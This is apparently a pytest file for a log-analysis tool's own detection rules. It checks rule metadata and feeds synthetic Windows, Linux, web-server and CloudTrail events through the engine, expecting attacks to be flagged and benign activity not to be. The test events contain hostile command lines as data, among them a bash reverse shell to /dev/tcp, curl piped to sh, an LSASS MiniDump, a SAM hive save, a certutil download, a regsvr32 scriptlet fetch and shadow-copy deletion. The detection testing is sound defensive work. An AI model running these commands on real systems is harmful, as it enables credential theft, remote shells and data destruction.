"""Our own rules: compiled as committed, complete, and finding what they say in events as readers give them."""

from __future__ import annotations

import re
import uuid
from importlib import resources

import pytest

from svc.assistant.findings import Severity
from svc.assistant.knowledge.attack_names import attack_name, tactic
from svc.assistant.log_readers.windows import Header, windows_event
from svc.assistant.sigma.condition import Check, Every, Node, Not, Some
from svc.assistant.sigma.engine import Rule, RuleEngine
from svc.assistant.sigma.event import Event
from svc.assistant.sigma.shipped import compile_ours
from svc.assistant.sigma.tables import OURS, load_tables

RULES = load_tables()[OURS].rules
SYSMON = "Microsoft-Windows-Sysmon/Operational"


def test_the_shipped_table_matches_the_rules():
    shipped = resources.files("svc.assistant.sigma").joinpath("rules", f"{OURS}.json").read_bytes()

    assert shipped == compile_ours(), "the rules were changed: run svc rules compile"


def test_there_are_rules_for_every_kind_of_log():
    kinds = {rule.source.service or rule.source.category for rule in RULES if rule.source.product != "linux"}
    linux = {rule.source.service or rule.source.category for rule in RULES if rule.source.product == "linux"}

    assert len(RULES) >= 80
    assert {
        "security", "system", "application", "powershell", "powershell-classic", "taskscheduler", "windefend", "winrm",
        "wmi", "bits-client", "terminalservices-localsessionmanager", "process_creation", "network_connection",
        "driver_load", "image_load", "create_remote_thread", "process_access", "file_event", "registry_event",
        "registry_set", "pipe_created", "wmi_event", "dns_query", "process_tampering", "webserver", "cloudtrail",
    } <= kinds  # fmt: skip
    assert {"sshd", "sudo", "cron", "auth", "auditd", "process_creation"} <= linux


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.title)
def test_every_own_rule_has_all_required_fields(rule: Rule):
    assert uuid.UUID(rule.id).version == 4
    assert (rule.author, rule.license) == ("The svc-jupyter maintainers", "Apache-2.0")
    assert rule.description.endswith(".")
    assert rule.false_positives
    assert rule.tactics
    assert all(tactic(name) is not None for name in rule.tactics)
    assert rule.techniques
    assert all(attack_name(technique) for technique in rule.techniques)
    assert (rule.source != type(rule.source)()) is (rule.correlation is None), "its parts have the log sources"


def test_own_rules_have_unique_ids_and_titles():
    titles = {rule.title.casefold() for rule in RULES}

    assert len({rule.id for rule in RULES}) == len(titles) == len(RULES)


UNIDIOMATIC = re.compile(
    r"\b(where (it|there|nothing)|asked (for|by)|that is (none|no)|strange|odd (place|name)|stands? (in|beside|behind)"
    r"|somebody|who(m)?ever|another than|goes first|from afar|looked (over|for)|made hard|one's own|as the system"
    r"|rights of the system|raise[sd]? (its |their )?(own )?rights|security authority|protection program|ransom program"
    r"|told|wants?|deeds?|in vain)\b",
    re.IGNORECASE,
)


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.title)
def test_a_rule_is_worded_in_the_fields_terms(rule: Rule):
    for text in (rule.title, rule.description, *rule.false_positives):
        assert not UNIDIOMATIC.search(text), text


STANDARD_NAMES = (
    "LSASS dump", "Mimikatz", "DCSync", "DCShadow", "Kerberoasting", "AS-REP roasting", "Pass-the-hash",
    "Golden ticket", "Zerologon", "PrintNightmare", "PetitPotam", "noPac", "BYOVD", "UAC bypass", "Potato",
    "AMSI bypass", "Timestomping", "Process hollowing", "DLL injection", "COM hijacking", "Web shell",
    "SQL injection", "Path traversal", "SSRF", "Reverse shell", "PsExec", "Impacket", "LOLBin", "Log4Shell",
    "Cryptominer", "whoami run as SYSTEM", "BITS job",
)  # fmt: skip


@pytest.mark.parametrize("name", STANDARD_NAMES)
def test_the_usual_name_of_a_technique_finds_a_rule(name: str):
    assert any(name.casefold() in rule.title.casefold() for rule in RULES)


def test_no_own_rule_relies_on_the_verdict_of_another_product():
    def fields(node: Node) -> set[str]:
        match node:
            case Every(nodes) | Some(nodes):
                return set().union(*map(fields, nodes))
            case Not(inner):
                return fields(inner)
            case Check():
                return {node.field}

    assert "RuleName" not in set().union(*(fields(rule.condition) for rule in RULES))


def windows(channel: str, event_id: int, **fields: str) -> Event:
    return windows_event(Header(number=1, event_id=event_id, channel=channel, host="PC"), fields)


def started(image: str, command: str, parent: str = r"C:\Windows\explorer.exe", **fields: str) -> Event:
    named = {"Image": image, "CommandLine": command, "ParentImage": parent}
    return windows(SYSMON, 1, **named, **fields)


def other(product: str, service: str, category: str = "", **fields: str) -> Event:
    return Event(
        number=1, offset=None, time="", product=product, service=service, category=category, host="", event_id=None,
        fields={name.replace("_", "-"): value for name, value in fields.items()}, excerpt="",
    )  # fmt: skip


def matched(event: Event) -> list[Rule]:
    return [hit.rule for hit in RuleEngine(RULES).feed([event])]


S32 = r"C:\Windows\System32"
ATTACKS = {
    "comsvcs MiniDump of LSASS": (
        started(rf"{S32}\rundll32.exe", r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\x.dmp full"),
        "credential-access",
    ),
    "SAM hive saved (event 4688)": (
        windows("Security", 4688, NewProcessName=rf"{S32}\reg.exe", CommandLine=r"reg save hklm\sam C:\t\s.hive"),
        "credential-access",
    ),
    "LSASS memory access": (
        windows(
            SYSMON, 10, SourceImage=r"C:\t\a.exe", TargetImage=rf"{S32}\lsass.exe", GrantedAccess="0x1410", CallTrace=""
        ),
        "credential-access",
    ),
    "DCSync": (
        windows(
            "Security", 4662, SubjectUserName="eve", Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"
        ),
        "credential-access",
    ),
    "Kerberoasting": (
        windows("Security", 4769, ServiceName="sql", TicketEncryptionType="0x17", Status="0x0"),
        "credential-access",
    ),
    "Zerologon": (
        windows("Security", 4742, SubjectUserName="ANONYMOUS LOGON", TargetUserName="DC1$"),
        "credential-access",
    ),
    "WmiPrvSE spawns a shell": (
        started(rf"{S32}\cmd.exe", "cmd /c dir", rf"{S32}\wbem\WmiPrvSE.exe"),
        "lateral-movement",
    ),
    "PsExec service": (
        windows("System", 7045, ServiceName="PSEXESVC", ImagePath=r"%SystemRoot%\PSEXESVC.exe"),
        "lateral-movement",
    ),
    "pass the hash": (
        windows("Security", 4624, LogonType="9", LogonProcessName="seclogo", TargetUserName="eve"),
        "lateral-movement",
    ),
    "remote svcctl pipe": (
        windows("Security", 5145, ShareName=r"\\*\IPC$", RelativeTargetName="svcctl", IpAddress="10.0.0.9"),
        "lateral-movement",
    ),
    "RDP through a tunnel": (
        windows("Security", 4624, LogonType="10", IpAddress="127.0.0.1", TargetUserName="eve"),
        "command-and-control",
    ),
    "log cleared": (windows("Security", 1102), "defense-evasion"),
    "Defender disabled": (windows("Microsoft-Windows-Windows Defender/Operational", 5001), "defense-evasion"),
    "AMSI bypass": (
        windows("Microsoft-Windows-PowerShell/Operational", 4104, ScriptBlockText="$x.GetField('amsiInitFailed')"),
        "defense-evasion",
    ),
    "remote thread injection": (
        windows(SYSMON, 8, SourceImage=r"C:\t\a.exe", TargetImage=r"C:\t\b.exe", StartModule=""),
        "defense-evasion",
    ),
    "vulnerable driver (BYOVD)": (
        windows(SYSMON, 6, ImageLoaded=r"C:\Users\eve\RTCore64.sys", Signed="true", SignatureStatus="Valid"),
        "defense-evasion",
    ),
    "kernel mapped by a user program": (
        windows(SYSMON, 7, Image=r"C:\Users\eve\Downloads\kdu.exe", ImageLoaded=rf"{S32}\ntoskrnl.exe", Signed="true"),
        "defense-evasion",
    ),
    "Run key": (
        windows(
            SYSMON, 13, EventType="SetValue", TargetObject=r"HKU\S-1\Software\Microsoft\Windows\CurrentVersion\Run\a",
            Details=r"powershell -enc AAAA", Image=rf"{S32}\reg.exe",
        ),
        "persistence",
    ),
    "WMI event consumer": (windows(SYSMON, 20, Name="x", Type="Command Line", Destination="cmd /c a"), "persistence"),
    "suspicious scheduled task": (
        windows("Security", 4698, TaskName=r"\a", TaskContent="<Command>powershell.exe</Command>"),
        "persistence",
    ),
    "Guest added to a group": (windows("Security", 4732, MemberSid="S-1-5-21-1-2-3-501"), "persistence"),
    "web shell": (started(rf"{S32}\cmd.exe", "cmd /c whoami", rf"{S32}\inetsrv\w3wp.exe"), "persistence"),
    "sticky keys backdoor": (started(rf"{S32}\cmd.exe", "cmd", rf"{S32}\sethc.exe"), "persistence"),
    "UAC bypass with fodhelper": (
        started(rf"{S32}\cmd.exe", "cmd", rf"{S32}\fodhelper.exe"),
        "privilege-escalation",
    ),
    "UAC bypass registry key": (
        windows(
            SYSMON, 13, EventType="SetValue", TargetObject=r"HKU\S-1_Classes\ms-settings\shell\open\command\(Default)",
            Details="cmd.exe",
        ),
        "privilege-escalation",
    ),
    "getsystem named pipe": (
        windows("System", 7045, ServiceName="x", ImagePath=r"cmd.exe /c echo x > \\.\pipe\abc"),
        "privilege-escalation",
    ),
    "PowerShell encoded command": (
        started(rf"{S32}\WindowsPowerShell\v1.0\powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQ=="),
        "execution",
    ),
    "Office macro": (started(rf"{S32}\cmd.exe", "cmd /c a", r"C:\Program Files\Office\WINWORD.EXE"), "execution"),
    "Squiblydoo": (started(rf"{S32}\regsvr32.exe", "regsvr32 /s /i:http://a/b.sct scrobj.dll"), "execution"),
    "Domain Admins enumeration": (started(rf"{S32}\net.exe", 'net group "Domain Admins" /domain'), "discovery"),
    "certutil download": (started(rf"{S32}\certutil.exe", "certutil -urlcache -f http://a/b b"), "command-and-control"),
    "shadow copies deleted": (started(rf"{S32}\vssadmin.exe", "vssadmin delete shadows /all /quiet"), "impact"),
    "reverse shell on Linux": (
        other("linux", "auditd", "process_creation", CommandLine="bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"),
        "command-and-control",
    ),
    "cron job that downloads": (
        other("linux", "cron", message="(root) CMD (curl http://a/b | sh)"),
        "persistence",
    ),
    "SQL injection": (
        other("", "", "webserver", cs_uri_query="/a?id=1 UNION SELECT password FROM users", sc_status="200"),
        "initial-access",
    ),
    "path traversal": (
        other("", "", "webserver", cs_uri_query="/a?f=../../../../etc/passwd", sc_status="404"),
        "initial-access",
    ),
    "CloudTrail stopped": (other("aws", "cloudtrail", eventName="StopLogging"), "defense-evasion"),
}  # fmt: skip


@pytest.mark.parametrize(("event", "expected"), ATTACKS.values(), ids=ATTACKS)
def test_an_attack_is_found_and_its_tactic_named_first(event: Event, expected: str):
    found = matched(event)

    assert found, "no rule matches"
    worst = min(found, key=lambda rule: list(Severity).index(rule.severity))
    assert expected in {rule.tactics[0] for rule in found if rule.severity == worst.severity}


ORDINARY = {
    "explorer starts a browser": started(r"C:\Program Files\Google\Chrome\chrome.exe", '"chrome.exe" --type=renderer'),
    "a service host": started(
        rf"{S32}\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p", rf"{S32}\services.exe"
    ),
    "lsass at boot": started(rf"{S32}\lsass.exe", r"C:\Windows\system32\lsass.exe", rf"{S32}\wininit.exe"),
    "logon at the desk": windows(
        "Security", 4624, LogonType="2", TargetUserName="ann", LogonProcessName="User32 ", IpAddress="127.0.0.1"
    ),
    "logon of a service": windows("Security", 4624, LogonType="5", TargetUserName="SYSTEM", IpAddress="-"),
    "domain controllers replicate": windows(
        "Security", 4662, SubjectUserName="DC1$", Properties="{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"
    ),
    "Defender reads lsass": windows(
        SYSMON, 10, SourceImage=r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe",
        TargetImage=rf"{S32}\lsass.exe", GrantedAccess="0x1010", CallTrace=r"C:\Windows\SYSTEM32\ntdll.dll+9c534",
    ),
    "updates": windows(
        SYSMON, 3, Image=rf"{S32}\svchost.exe", Initiated="true", DestinationIp="13.107.4.50", DestinationPort="443"
    ),
    "a signed driver": windows(
        SYSMON, 6, ImageLoaded=rf"{S32}\drivers\tcpip.sys", Signed="true", SignatureStatus="Valid"
    ),
    "a debugger that reads the kernel's symbols": windows(
        SYSMON, 7, Image=r"C:\Program Files (x86)\Windows Kits\10\Debuggers\x64\kd.exe",
        ImageLoaded=rf"{S32}\ntoskrnl.exe", Signed="true", SignatureStatus="Valid",
    ),
    "a system program that checks code integrity": windows(
        SYSMON, 7, Image=rf"{S32}\svchost.exe", ImageLoaded=rf"{S32}\ci.dll", Signed="true", SignatureStatus="Valid"
    ),
    "a page": other("", "", "webserver", cs_uri_query="/index.html?page=2", cs_uri_stem="/index.html", sc_status="200"),
    "a logon by SSH": other("linux", "sshd", message="Accepted publickey for ann from 10.0.0.5 port 50000 ssh2"),
    "a job": other("linux", "cron", message="(root) CMD (run-parts --report /etc/cron.hourly)"),
    "an event of no log that is known": windows("Vendor/Log", 7, Data="all is well"),
}  # fmt: skip


@pytest.mark.parametrize("event", ORDINARY.values(), ids=ORDINARY)
def test_an_ordinary_event_raises_nothing_above_low(event: Event):
    assert [rule.title for rule in matched(event) if rule.severity not in (Severity.LOW, Severity.INFO)] == []
